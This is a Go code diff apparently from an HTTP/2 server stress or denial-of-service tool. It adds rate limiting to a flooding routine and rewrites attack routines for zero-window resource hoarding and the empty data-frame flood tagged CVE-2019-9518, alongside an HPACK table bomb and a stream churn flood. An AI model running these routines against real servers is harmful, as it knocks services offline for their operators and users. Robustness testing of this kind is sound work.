@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"io"
 	"net"
+	"time"
 )
 
 // appendFrame appends a frame. RFC 9113 §4.1.
@@ -40,16 +41,21 @@ func begin(conn net.Conn, size uint32) {
 	conn.Write(appendFrame(p, settings, 0, 0, set))
 }
 
-// blast writes what next appends, for as long as the server takes it, and
-// throws away what comes back.
+// blast writes what next appends, at the rate that is allowed and for as long
+// as the server takes it, and throws away what comes back.
 func blast(conn net.Conn, t *tally, each int64, next func(p []byte) []byte) {
 	go io.Copy(io.Discard, conn)
+	begun, sent := time.Now(), 0
 	for p := []byte(nil); ; p = p[:0] {
 		p = next(p)
-		if _, err := conn.Write(p); err != nil {
+		n, err := conn.Write(p)
+		if err != nil {
 			return
 		}
 		t.done.Add(each)
+		sent += n
+		due := time.Duration(sent) * time.Second / time.Duration(*rate)
+		time.Sleep(time.Until(begun.Add(due)))
 	}
 }
 
@@ -117,14 +123,18 @@ func noEnd(conn net.Conn, t *tally) {
 	})
 }
 
-// hoard asks for megabytes, and opens no window for them.
-var hoard = streams(0, func(p []byte, id uint32) []byte {
-	if id > 200 {
-		return appendFrame(p, ping, 0, 0, make([]byte, 8))
+// hoard asks for a hundred files, opens no window for them, and waits.
+func hoard(conn net.Conn, t *tally) {
+	begin(conn, 0)
+	var p []byte
+	for id := uint32(1); id < 200; id += 2 {
+		p = appendFrame(p, headers, endStream|endHeaders, id,
+			block(get2, "/live.js"))
 	}
-	return appendFrame(p, headers, endStream|endHeaders, id,
-		block(get2, "/zeros"))
-})
+	conn.Write(p)
+	t.done.Add(100)
+	io.Copy(io.Discard, conn)
+}
 
 // bomb puts one large field into the table, and then names it with one byte,
 // again and again.
@@ -159,7 +169,8 @@ var churn = streams(65535, func(p []byte, id uint32) []byte {
 	return appendFrame(p, headers, endStream|endHeaders, id, fields)
 })
 
-// slowData sends a body a byte a frame: each has a header nine times its size.
+// emptyData sends a body that never ends in frames that bring none of it.
+// CVE-2019-9518.
 func emptyData(conn net.Conn, t *tally) {
 	begin(conn, 65535)
 	conn.Write(appendFrame(nil, headers, endHeaders, 1,
